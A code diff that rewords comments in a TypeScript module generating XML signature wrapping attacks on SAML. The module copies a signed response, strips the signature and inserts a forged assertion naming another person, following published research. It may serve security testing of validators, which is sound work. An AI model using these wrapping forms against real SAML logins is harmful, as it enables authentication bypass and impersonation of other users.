@@ -1,4 +1,4 @@
-// The eight shapes of XML signature wrapping (Somorovsky et al., On Breaking SAML, USENIX Security 2012): the signed part stays whole, and somebody else is read.
+// The eight forms of XML signature wrapping (Somorovsky et al., On Breaking SAML, USENIX Security 2012): the signed part stays intact, and a forged one is read.
 import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
 
 const DSIG = 'http://www.w3.org/2000/09/xmldsig#'
@@ -15,7 +15,7 @@ const withoutSignature = (element: Element): Element => {
   element.removeChild(childOf(element, 'Signature'))
   return element
 }
-/** Somebody else, under an id of its own. */
+/** A forged assertion of another person, under its own id. */
 const evil = (element: Element, id: string, nameId: string): Element => {
   element.setAttribute('ID', id)
   const assertion = element.localName === 'Assertion' ? element : childOf(element, 'Assertion')
@@ -26,7 +26,7 @@ const evil = (element: Element, id: string, nameId: string): Element => {
 type Parts = { readonly document: Document; readonly response: Element; readonly assertion: Element; readonly nameId: string }
 const own = ({ document }: Parts, namespace: string, name: string): Element => document.createElementNS(namespace, name)
 
-/** 1 and 2 wrap a signed message, the others a signed assertion. */
+/** Forms 1 and 2 wrap a signed message, the others a signed assertion. */
 const SHAPES: readonly ((parts: Parts) => void)[] = [
   ({ response, nameId }) => {
     const original = withoutSignature(copyOf(response))
